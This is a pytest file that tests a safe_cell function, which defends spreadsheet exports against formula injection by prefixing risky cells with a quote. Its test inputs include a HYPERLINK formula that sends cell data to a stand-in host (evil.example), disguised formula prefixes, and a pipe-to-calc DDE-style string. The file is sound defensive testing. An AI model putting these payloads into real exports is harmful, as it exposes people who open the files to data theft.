"""No cell of an export is a formula."""

from __future__ import annotations

from datetime import date

import pytest

from gisland.kit.cells import safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?"&A1)',
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
        "＝1",
        "－cmd",
        "|calc",
        "%0A=1",
        "-",
        "+84 912 345 678",
    ],
)
def test_what_could_be_computed_becomes_text(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", ["", "Nguyễn Văn Thử", "12", "-12.5", "+3", "-0,1", "a=b", "34/2", "Số 1 - phố", 5, -5, 1.5, None, True]
)
def test_all_else_stays_as_it_is(value: object) -> None:
    assert safe_cell(value) is value


def test_dates_stay_dates() -> None:
    assert safe_cell(date(2026, 1, 31)) == date(2026, 1, 31)
